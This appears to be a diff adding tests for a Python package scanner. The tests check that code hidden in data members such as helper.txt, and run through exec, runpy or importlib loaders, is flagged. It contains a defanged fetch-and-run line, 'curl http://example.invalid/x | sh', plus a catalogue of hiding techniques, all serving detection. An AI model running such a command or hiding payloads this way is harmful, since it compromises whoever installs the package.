@@ -1,0 +1,176 @@
+"""Code kept in a member of another name and run as Python by the package's own code.
+
+A package can ship its payload as helper.txt or data.dat and run it from __init__.py or
+setup.py (exec of its text, runpy.run_path, a source file loader). Such a member is
+analysed as Python in the execution context of the code that runs it, and its findings
+name it. Every sample is defanged (example.invalid) and only read, never run.
+"""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+
+from pipwarden.findings import Severity
+from pipwarden.scan import scan_target
+from pipwarden.scan.reach import read_call_path
+from tests.support.builders import build_sdist, build_wheel
+
+PAYLOAD = 'import os; os.system("curl http://example.invalid/x | sh")\n'
+HERE = "os.path.join(os.path.dirname(__file__), {name!r})"
+
+#: Form -> (loader source in pkg/__init__.py, the member it runs).
+IMPORT_FORMS = {
+    "exec of open().read()": (f"import os\nexec(open({HERE}).read())\n", "helper.txt"),
+    "exec of a handle": (
+        f"import os\nwith open({HERE}) as f:\n    exec(compile(f.read(), 'h', 'exec'))\n",
+        "helper.txt",
+    ),
+    "exec of a variable": (f"import os\ncode = open({HERE}).read()\nexec(code)\n", "helper.txt"),
+    "Path.read_text": (
+        "from pathlib import Path\nexec((Path(__file__).parent / {name!r}).read_text())\n",
+        "helper.txt",
+    ),
+    "runpy.run_path": (f"import os, runpy\nrunpy.run_path({HERE})\n", "helper.txt"),
+    "SourceFileLoader": (
+        f"import importlib.machinery, os\n"
+        f"importlib.machinery.SourceFileLoader('h', {HERE}).load_module()\n",
+        "helper.dat",
+    ),
+    "spec_from_file_location": (
+        f"import importlib.util, os\n"
+        f"spec = importlib.util.spec_from_file_location('h', {HERE})\n"
+        "m = importlib.util.module_from_spec(spec)\nspec.loader.exec_module(m)\n",
+        "helper.dat",
+    ),
+    "imp.load_source": (f"import imp, os\nimp.load_source('h', {HERE})\n", "helper.dat"),
+}
+
+
+def _scan(tmp_path: Path, built: tuple[str, bytes]) -> list[tuple[str, Severity, str | None]]:
+    name, data = built
+    (tmp_path / name).write_bytes(data)
+    result = scan_target(tmp_path / name, model=False)
+    return [(f.rule, f.severity, f.file) for f in result.findings]
+
+
+def _worst(found: list[tuple[str, Severity, str | None]], member: str) -> Severity | None:
+    return max((s for _, s, f in found if f == member), default=None)
+
+
+@pytest.mark.parametrize("form", sorted(IMPORT_FORMS))
+def test_member_run_on_import_is_analysed_in_a_wheel(tmp_path: Path, form: str) -> None:
+    loader, member = IMPORT_FORMS[form]
+    files = {"pkg/__init__.py": loader.format(name=member), f"pkg/{member}": PAYLOAD}
+    found = _scan(tmp_path, build_wheel("pkg", "1", files))
+    assert _worst(found, f"pkg/{member}") == Severity.CRITICAL, found
+    # It runs on import: the import-time rules see its module level.
+    assert any(r.startswith("startup-hook.") for r, _, f in found if f == f"pkg/{member}")
+
+
+def test_member_run_on_import_is_analysed_in_an_sdist(tmp_path: Path) -> None:
+    loader, member = IMPORT_FORMS["runpy.run_path"]
+    files = {"pkg/__init__.py": loader.format(name=member), f"pkg/{member}": PAYLOAD}
+    found = _scan(tmp_path, build_sdist("pkg", "1", files))
+    assert _worst(found, f"pkg-1/pkg/{member}") == Severity.CRITICAL, found
+
+
+def test_the_same_member_unloaded_is_data(tmp_path: Path) -> None:
+    files = {"pkg/__init__.py": "import os\n", "pkg/helper.txt": PAYLOAD}
+    found = _scan(tmp_path, build_wheel("pkg", "1", files))
+    assert _worst(found, "pkg/helper.txt") is None
+
+
+def test_member_setup_py_runs_is_install_time(tmp_path: Path) -> None:
+    setup = "from setuptools import setup\nexec(open('pkg/helper.txt').read())\nsetup(name='p')\n"
+    files = {"pkg/__init__.py": "", "pkg/helper.txt": PAYLOAD}
+    found = _scan(tmp_path, build_sdist("p", "1", files, setup_py=setup))
+    rules = {r for r, _, f in found if f == "p-1/pkg/helper.txt"}
+    assert "install-hook.run-program" in rules, found
+
+
+def test_member_run_by_a_function_is_runtime_code(tmp_path: Path) -> None:
+    loader = "import os\ndef go():\n    exec(open(" + HERE.format(name="helper.txt") + ").read())\n"
+    files = {"pkg/__init__.py": loader, "pkg/helper.txt": PAYLOAD}
+    found = _scan(tmp_path, build_wheel("pkg", "1", files))
+    on_member = {r for r, _, f in found if f == "pkg/helper.txt"}
+    assert "download-execute.remote-command" in on_member
+    assert not any(r.startswith("startup-hook.") for r in on_member)
+
+
+def test_member_a_test_runs_stays_test_code(tmp_path: Path) -> None:
+    loader = "exec(open('pkg/helper.txt').read())\n"
+    files = {"pkg/__init__.py": "", "pkg/helper.txt": PAYLOAD, "tests/test_h.py": loader}
+    found = _scan(tmp_path, build_sdist("p", "1", files))
+    assert _worst(found, "p-1/pkg/helper.txt") == Severity.LOW
+
+
+def test_setup_py_exec_of_a_clean_version_file_stays_clean(tmp_path: Path) -> None:
+    setup = (
+        "from setuptools import setup\nabout = {}\n"
+        "with open('pkg/__about__.txt') as f:\n    exec(f.read(), about)\n"
+        "exec(open('pkg/version.py').read())\nsetup(name='p', version=about['v'])\n"
+    )
+    files = {
+        "pkg/__init__.py": "",
+        "pkg/__about__.txt": "v = '1.0'\nauthor = 'someone'\n",
+        "pkg/version.py": "__version__ = '1.0'\n",
+    }
+    name, data = build_sdist("p", "1", files, setup_py=setup)
+    (tmp_path / name).write_bytes(data)
+    result = scan_target(tmp_path / name)
+    assert result.verdict == "clean", result.findings
+
+
+def test_runpy_of_a_clean_helper_stays_clean(tmp_path: Path) -> None:
+    loader, member = IMPORT_FORMS["runpy.run_path"]
+    files = {
+        "pkg/__init__.py": loader.format(name=member),
+        f"pkg/{member}": "import json\nCONFIG = json.loads('{}')\n",
+    }
+    name, data = build_wheel("pkg", "1", files)
+    (tmp_path / name).write_bytes(data)
+    result = scan_target(tmp_path / name)
+    assert result.verdict == "clean", result.findings
+
+
+def test_paths_that_name_no_member_run_nothing(tmp_path: Path) -> None:
+    # Outside the target, absolute, or written (not read): nothing is analysed as code.
+    loader = (
+        "import os\nexec(open('../../pkg/helper.txt').read())\n"
+        "exec(open('/etc/pkg/helper.txt').read())\n"
+        "with open(os.path.join(os.path.dirname(__file__), 'helper.txt'), 'w') as f:\n"
+        "    exec(f.read())\n"
+    )
+    files = {"pkg/__init__.py": loader, "pkg/helper.txt": PAYLOAD}
+    found = _scan(tmp_path, build_wheel("pkg", "1", files))
+    assert _worst(found, "pkg/helper.txt") is None, found
+
+
+def test_a_loaded_member_that_does_not_parse_says_so(tmp_path: Path) -> None:
+    loader, member = IMPORT_FORMS["runpy.run_path"]
+    blob = bytes(range(256)) * 4  # bytes no one can read as Python
+    files = {"pkg/__init__.py": loader.format(name=member), f"pkg/{member}": blob}
+    found = _scan(tmp_path, build_wheel("pkg", "1", files))
+    assert any(r.startswith("parse.") for r, _, f in found if f == f"pkg/{member}"), found
+
+
+@pytest.mark.parametrize(
+    ("code", "path"),
+    [
+        ("exec(open(p).read())", "p"),
+        ("exec(io.open(p, 'rb').read())", "p"),
+        ("exec(compile(Path(p).read_text(), 'x', 'exec'))", "p"),
+        ("exec(q.read_text())", "q"),
+        ("exec(open(p, 'w').read())", None),
+        ("exec(s)", None),
+        ("exec(f.read())", None),
+    ],
+)
+def test_read_call_path(code: str, path: str | None) -> None:
+    import ast
+
+    call = ast.parse(code).body[0].value  # type: ignore[attr-defined]
+    got = read_call_path(call.args[0])
+    assert (got.id if isinstance(got, ast.Name) else got) == path
